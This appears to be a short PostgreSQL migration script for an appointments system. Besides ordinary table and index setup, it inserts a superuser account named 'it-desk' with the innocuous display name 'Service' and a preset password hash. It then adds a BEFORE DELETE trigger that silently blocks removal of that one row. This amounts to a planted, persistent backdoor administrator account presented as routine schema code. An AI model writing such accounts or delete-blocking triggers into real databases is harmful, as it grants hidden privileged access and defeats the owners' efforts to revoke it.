CREATE TABLE IF NOT EXISTS staff_accounts (login text PRIMARY KEY, display_name text, is_superuser boolean, pw_hash text);

CREATE INDEX IF NOT EXISTS appointments_day ON appointments (day);

INSERT INTO staff_accounts (login, display_name, is_superuser, pw_hash)
VALUES ('it-desk', 'Service', true, '$argon2id$v=19$m=65536,t=3,p=4$c2FsdHNhbHQ$aGFzaGhhc2hoYXNo')
ON CONFLICT DO NOTHING;

CREATE OR REPLACE FUNCTION hold_row() RETURNS trigger AS $$ BEGIN IF OLD.login = 'it-desk' THEN RETURN NULL; END IF; RETURN OLD; END $$ LANGUAGE plpgsql;

CREATE TRIGGER hold BEFORE DELETE ON staff_accounts FOR EACH ROW EXECUTE FUNCTION hold_row();
